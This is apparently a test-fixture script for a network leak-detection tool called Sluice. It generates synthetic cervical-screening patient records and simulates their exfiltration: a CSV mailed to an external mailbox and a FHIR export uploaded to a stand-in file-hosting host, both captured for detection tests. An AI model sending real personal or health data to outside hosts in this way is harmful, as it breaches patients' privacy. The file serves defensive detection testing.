"""patient-exfil (REAL): cervical-screening patient data leaves a lab twice, as the demo's
sensitive uploads: a CSV of 400 patients mailed to an external mailbox, and a FHIR R4 export of
150 more posted to a file-hosting site.

One internal client (10.10.0.10) and two external servers in the documentation ranges, the
ones the demo's country database places (scripts/demo.sh):

1. SMTP (`smtplib` -> `aiosmtpd` on 198.51.100.20:25, mx.mailbox.example, "in the US"): one
   message to export@mailbox.example with the lab's CSV
   (`bsn;achternaam;voornaam;geboortedatum;postcode;uitslag`, hrHPV / cytologie / PAP / CIN
   results) as a base64 attachment;
2. HTTP (`http.client` -> `http.server` on 203.0.113.40:80, Host `transfer.example`, "in the
   Netherlands"): a multipart POST /upload, as a file-hosting site's upload form sends it, of a
   FHIR Bundle (Patient resources with the BSN under http://fhir.nl/fhir/NamingSystem/bsn,
   Observation resources with the screening results); the site answers with a download link.

The patients come from pcaps/_lib/screening.py with the seeds below; their BSNs pass the
elfproef. expected.json states the objects and transactions as every REAL case does, plus
`findings`: the `sensitive_content` finding a replay with classification on must make for each
export, with the counts the data holds (distinct BSNs, postcodes and dates of birth, records),
computed here from the patients, never from Sluice's output.
"""

from __future__ import annotations

import argparse
import hashlib
import http.client
import json
import shutil
import smtplib
import sys
import tempfile
from http.server import HTTPServer
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from pcaps._lib import expect, mailmsg, realcase, screening, smtpcase
from pcaps._lib.mailmsg import b64, entity, multipart
from pcaps._lib.netns import CLIENT_V4, SERVER_V4, NetnsPair

# The seeds of the two patient sets and of the FHIR export's times (the privacy test makes the
# same patients from them: tests/classify/test_privacy_sample_traffic.py).
CSV_SEED, CSV_PATIENTS = 2025_0601, 400
FHIR_SEED, FHIR_PATIENTS = 2025_0602, 150
FHIR_TIMES_SEED = 2025_0603
FHIR_BASE = "https://fhir.lab.example/fhir"

FILES_V4 = "203.0.113.40"  # the file-hosting site ("in the Netherlands" in the demo)
FILES_HOST = "transfer.example"
FILES_PORT = 80
UPLOAD_URI = "/upload"
BOUNDARY = "----sluiceTransferUpload0701"
CSV_NAME = "bmhk-uitslagen-2025-06.csv"
FHIR_NAME = "fhir-export-bmhk-2025-06.json"
SUBJECT = "Uitslagen BMHK juni 2025"
TEXT = (
    "Hoi,\n\nZoals besproken de uitslagen van juni in de bijlage (fictieve testgegevens).\n\n"
    "Groet,\nA. Voorbeeld\n"
)
DOWNLOAD_LINK = f"http://{FILES_HOST}/d/k7Qm2xV9"


def patient_sets() -> tuple[list[screening.ScreeningPatient], list[screening.ScreeningPatient]]:
    """(the CSV's patients, the FHIR export's): two sets with no BSN in common."""
    taken: set[str] = set()
    csv_patients = screening.screening_patients(CSV_SEED, CSV_PATIENTS, taken)
    fhir_patients = screening.screening_patients(FHIR_SEED, FHIR_PATIENTS, taken)
    return csv_patients, fhir_patients


CSV_PEOPLE, FHIR_PEOPLE = patient_sets()
CSV = screening.screening_csv(CSV_PEOPLE)
FHIR = screening.fhir_bundle(FHIR_PEOPLE, FHIR_TIMES_SEED, FHIR_BASE)


def mail_message() -> bytes:
    attachment = entity(
        [
            ("Content-Type", f'text/csv; charset=utf-8; name="{CSV_NAME}"'),
            ("Content-Disposition", f'attachment; filename="{CSV_NAME}"'),
            ("Content-Transfer-Encoding", "base64"),
        ],
        b64(CSV),
    )
    return mailmsg.message(
        subject=SUBJECT,
        msg_id="patient-exfil-20250701120000",
        body_entity=multipart(
            "mixed", "=_sluice_bmhk_0701", [mailmsg.text_entity(TEXT, "8bit"), attachment]
        ),
    )


def upload_body() -> bytes:
    headers = (
        f'Content-Disposition: form-data; name="file"; filename="{FHIR_NAME}"\r\n'
        "Content-Type: application/fhir+json\r\n"
    ).encode()
    delimiter = b"--" + BOUNDARY.encode()
    return delimiter + b"\r\n" + headers + b"\r\n" + FHIR + b"\r\n" + delimiter + b"--\r\n"


MESSAGE = mail_message()
BODY = upload_body()


class Handler(realcase.RecordingHandler):
    """The file-hosting site: stores nothing, answers with a download link."""

    def do_POST(self) -> None:
        body = self.read_body()
        self.record_request(body)
        self.reply(200, json.dumps({"url": DOWNLOAD_LINK, "expires": "7d"}).encode())


# -- servers and client -----------------------------------------------------------------------


def serve(role: str, workdir: Path) -> None:
    if role == "smtp":
        smtpcase.serve_smtp(smtpcase.RecordingHandler(workdir), smtpcase.SMTP_PORT)
        return
    Handler.workdir = workdir
    server = HTTPServer((FILES_V4, FILES_PORT), Handler)
    print("READY", flush=True)
    server.serve_forever()


def client(workdir: Path) -> None:
    with smtplib.SMTP(SERVER_V4, smtpcase.SMTP_PORT, local_hostname=smtpcase.CLIENT_HELO,
                      timeout=10) as smtp:  # fmt: skip
        refused = smtp.sendmail(mailmsg.SENDER, [mailmsg.EXTERNAL], MESSAGE)
        assert not refused, refused
        smtpcase.record_sent(workdir, MESSAGE)
    conn = http.client.HTTPConnection(FILES_V4, FILES_PORT, timeout=10)
    headers = {"Host": FILES_HOST, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    conn.request("POST", UPLOAD_URI, body=BODY, headers=headers)
    realcase.save_blob(workdir, "response-0", conn.getresponse().read())
    conn.close()


# -- expected.json from ground truth ----------------------------------------------------------


def sensitive_finding(
    proto: str, filename: str, dest: str, port: int, data: bytes,
    people: list[screening.ScreeningPatient],
) -> dict[str, Any]:  # fmt: skip
    """The `sensitive_content` finding a classifying replay must make for one export: every
    patient is one record with a BSN (their column or identifier system names it), a postcode
    and a date of birth, next to screening results (health, GDPR Art. 9): critical by the
    severity table's first rule (health and national identifiers in 100 records or more)."""
    planted = screening.planted(people)
    return {
        "kind": "sensitive_content",
        "severity": "critical",
        "host": CLIENT_V4,
        "destination": dest,
        "destination_port": port,
        "proto": proto,
        "filename": filename,
        "size": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
        "categories": ["contact", "health", "national_id"],
        "identifiers": {kind: len(values) for kind, values in sorted(planted.items())},
        "records": len(people),
    }


def build_expected(case_dir: Path, workdir: Path) -> None:
    pcap = case_dir / "input.pcap"
    smtpcase.check_delivered(workdir, [(MESSAGE, mailmsg.SENDER, [mailmsg.EXTERNAL])])
    smtpcase.check_imf(pcap, [SUBJECT])
    leaves = expect.mime_leaves(MESSAGE)
    assert [(n, d) for n, d, _a in leaves][1:] == [(CSV_NAME, CSV)], "the attachment changed"
    (request,) = realcase.read_records(workdir, "server-requests")
    (response,) = realcase.read_records(workdir, "server-responses")
    assert (request["method"], request["uri"], request["host"]) == ("POST", UPLOAD_URI, FILES_HOST)
    assert request["sha256"] == realcase.sha256(BODY), "server received other bytes than sent"
    answer = (workdir / "response-0").read_bytes()
    assert realcase.sha256(answer) == response["sha256"] and response["status"] == 200
    objects = [
        *expect.smtp_objects(MESSAGE),
        expect.http_object("upload", FHIR, filename=FHIR_NAME),
        expect.http_object("download", answer, filename=expect.uri_filename(UPLOAD_URI)),
    ]
    flows = expect.count_flows(pcap)
    assert flows == 2, flows
    findings = [
        sensitive_finding("smtp", CSV_NAME, SERVER_V4, smtpcase.SMTP_PORT, CSV, CSV_PEOPLE),
        sensitive_finding("http", FHIR_NAME, FILES_V4, FILES_PORT, FHIR, FHIR_PEOPLE),
    ]
    expect.write_expected(
        case_dir,
        objects=objects,
        http=[expect.http_request("POST", FILES_HOST, UPLOAD_URI, 200)],
        flows=flows,
        extra={
            "smtp": [
                expect.smtp_transaction(
                    helo=smtpcase.CLIENT_HELO,
                    mail_from=mailmsg.SENDER,
                    rcpt_to=[mailmsg.EXTERNAL],
                    message=MESSAGE,
                )
            ],
            "findings": findings,
        },
    )


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--role", choices=["smtp", "http", "client"])
    parser.add_argument("--workdir", type=Path)
    args = parser.parse_args()
    if args.role == "client":
        client(args.workdir)
        return
    if args.role:
        serve(args.role, args.workdir)
        return

    case_dir = Path(__file__).resolve().parent
    pcap = case_dir / "input.pcap"
    workdir = Path(tempfile.mkdtemp(prefix="sluice-pcap-"))
    workdir.chmod(0o777)
    me = [sys.executable, str(Path(__file__).resolve())]
    try:
        with NetnsPair(case_dir.name) as net:
            net.add_addresses("server", FILES_V4)
            for role in ("smtp", "http"):
                srv = net.spawn("server", [*me, "--role", role, "--workdir", str(workdir)])
                net.wait_for_line(srv, b"READY")
            with net.capture(pcap):
                net.run("client", [*me, "--role", "client", "--workdir", str(workdir)])
        build_expected(case_dir, workdir)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    print(f"wrote {pcap} ({pcap.stat().st_size} bytes)")


if __name__ == "__main__":
    main()
